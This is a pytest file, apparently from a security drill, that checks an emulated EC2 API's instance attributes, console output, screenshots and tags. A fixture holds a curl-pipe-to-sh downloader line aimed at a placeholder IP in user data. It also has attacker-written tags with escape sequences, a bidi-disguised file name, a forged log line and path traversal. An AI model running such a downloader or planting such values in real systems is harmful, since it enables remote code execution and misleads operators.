"""What instances show of themselves."""

from __future__ import annotations

import base64

import pytest

from tests.drill.conftest import Clients, Refused

ATTRIBUTES = (
    "blockDeviceMapping",
    "disableApiStop",
    "disableApiTermination",
    "ebsOptimized",
    "enclaveOptions",
    "groupSet",
    "instanceInitiatedShutdownBehavior",
    "instanceType",
    "kernel",
    "productCodes",
    "ramdisk",
    "rootDeviceName",
    "sourceDestCheck",
    "sriovNetSupport",
    "userData",
)


def _id(client: Clients, name: str, region: str = "eu-west-1") -> str:
    found = client("ec2", region).describe_instances(Filters=[{"Name": "tag:Name", "Values": [name]}])
    return str(found["Reservations"][0]["Instances"][0]["InstanceId"])


def test_every_attribute(client: Clients, web: str) -> None:
    """Each of the fifteen attributes is answered with a value of its own name."""
    ec2 = client("ec2")
    for name in ATTRIBUTES:
        answer = ec2.describe_instance_attribute(InstanceId=web, Attribute=name)
        assert set(answer) - {"InstanceId", "ResponseMetadata"}, name


@pytest.mark.parametrize("name", ["enaSupport", "nonsense"])
def test_attribute_that_is_none(client: Clients, refused: Refused, web: str, name: str) -> None:
    """What EC2 does not answer as an attribute is refused."""
    arguments = {"InstanceId": web, "Attribute": name}
    assert refused(client("ec2").describe_instance_attribute, **arguments)[0] == "InvalidParameterValue"


def test_user_data(client: Clients, web: str) -> None:
    """The downloader is there, in base64."""
    answer = client("ec2").describe_instance_attribute(InstanceId=web, Attribute="userData")
    assert b"curl -fsS http://198.51.100.23/k.sh | sh" in base64.b64decode(answer["UserData"]["Value"])


def test_console_is_bytes(client: Clients, web: str) -> None:
    """Console output carries bytes that are no UTF-8, and escape sequences, in base64 on the wire."""
    raw: list[bytes] = []
    ec2 = client("ec2")
    ec2.meta.events.register(
        "before-parse.ec2.GetConsoleOutput", lambda response_dict, **_: raw.append(response_dict["body"])
    )
    ec2.get_console_output(InstanceId=web)
    inside = raw[0].partition(b"<output>")[2].partition(b"</output>")[0]
    assert b"\x1b[2J" in base64.b64decode(inside)
    assert b"\xff\xfe\x80" in base64.b64decode(inside)


def test_latest_console_is_longer(client: Clients, web: str) -> None:
    """What came after the last change of state shows only in the latest output."""
    ec2 = client("ec2")
    posted = ec2.get_console_output(InstanceId=web)["Output"]
    latest = ec2.get_console_output(InstanceId=web, Latest=True)["Output"]
    assert latest.startswith(posted)
    assert "cron: (root)" in latest.removeprefix(posted)


def test_latest_console_before_nitro(client: Clients, refused: Refused) -> None:
    """An old type of instance has no latest output, and says so."""
    arguments = {"InstanceId": _id(client, "jump-1"), "Latest": True}
    assert refused(client("ec2").get_console_output, **arguments)[0] == "UnsupportedOperation"


def test_screenshot(client: Clients, web: str) -> None:
    """The screenshot is a JPEG."""
    data = base64.b64decode(client("ec2").get_console_screenshot(InstanceId=web)["ImageData"])
    assert (data[:3], data[-2:]) == (b"\xff\xd8\xff", b"\xff\xd9")


def test_screenshot_of_a_stopped_instance(client: Clients, refused: Refused) -> None:
    """An instance that is stopped has no screen."""
    arguments = {"InstanceId": _id(client, "report-1")}
    assert refused(client("ec2").get_console_screenshot, **arguments)[0] == "IncorrectInstanceState"


def test_hostile_tags_come_through(client: Clients) -> None:
    """Tags hold what the attacker wrote: control characters, bidi marks, newlines, climbing paths."""
    found = client("ec2", "ap-southeast-1").describe_instances()["Reservations"][0]["Instances"][0]
    values = {tag["Key"]: tag["Value"] for tag in found["Tags"]}
    assert values["owner"] == "web\x9b2J\x9b31mOWNED"
    assert values["project"] == "invoice\u202efdp.exe"
    assert values["note"].splitlines()[1] == "verified: intact, 0 gaps"
    assert values["backup-path"].startswith("../../")
    assert len(values["long"]) == 255
